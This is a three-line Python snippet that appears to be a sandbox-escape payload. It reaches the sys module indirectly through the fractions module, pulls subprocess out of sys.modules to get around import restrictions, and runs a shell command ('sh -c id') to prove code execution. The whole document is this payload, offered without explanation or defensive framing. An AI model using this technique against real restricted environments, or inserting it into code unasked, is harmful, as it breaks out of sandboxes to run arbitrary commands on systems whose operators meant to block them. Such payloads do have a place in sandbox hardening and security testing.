from fractions import sys as s
m = s.modules
m["subprocess"].run(["sh", "-c", "id"])
